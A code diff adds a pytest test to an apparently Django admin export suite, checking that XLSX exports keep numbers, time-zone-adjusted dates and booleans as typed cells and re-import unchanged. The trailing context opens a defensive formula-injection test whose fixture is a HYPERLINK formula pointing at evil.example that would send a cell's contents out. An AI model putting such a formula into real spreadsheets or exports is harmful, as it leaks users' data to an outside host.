@@ -157,6 +157,35 @@ def test_an_unchanged_export_imports_again_without_errors(admin_client, file_for
     assert UNCHANGED in text
 
 
+def test_xlsx_export_writes_numbers_dates_and_yes_no_as_such(admin_client, settings):
+    """Every cell had been text: a year Excel flags as "number stored as text", a
+    publish time it would not sort or filter as a date."""
+    settings.TIME_ZONE = "America/New_York"
+    CareerPageFactory(
+        headline_year=2026,
+        status=CareerPage.Status.PUBLISHED,
+        published_at=datetime.datetime(2026, 3, 1, 14, 30, 5, tzinfo=datetime.UTC),
+    )
+    ResourceFactory(show_in_directory=False)
+    pages = export(admin_client, CareerPage, XLSX_FORMAT).content
+    header, row = openpyxl.load_workbook(io.BytesIO(pages)).active.iter_rows()
+    cells = {name.value: cell for name, cell in zip(header, row, strict=True)}
+    assert cells["headline_year"].value == 2026
+    assert cells["headline_year"].data_type == "n"
+    # In the admin's time zone, as the admin's form shows it.
+    assert cells["published_at"].value == datetime.datetime(2026, 3, 1, 9, 30, 5)
+    assert cells["published_at"].is_date
+    resources = export(admin_client, Resource, XLSX_FORMAT).content
+    header, row = openpyxl.load_workbook(io.BytesIO(resources)).active.iter_rows()
+    cells = {name.value: cell for name, cell in zip(header, row, strict=True)}
+    assert cells["show_in_directory"].value is False
+    # And the workbook reads back as it was.
+    preview = upload(admin_client, CareerPage, pages, "pages.xlsx", XLSX_FORMAT)
+    assert UNCHANGED in visible_text(preview.content)
+    preview = upload(admin_client, Resource, resources, "r.xlsx", XLSX_FORMAT)
+    assert UNCHANGED in visible_text(preview.content)
+
+
 @pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
 def test_export_text_a_spreadsheet_would_run_is_kept_as_text(admin_client, file_format):
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
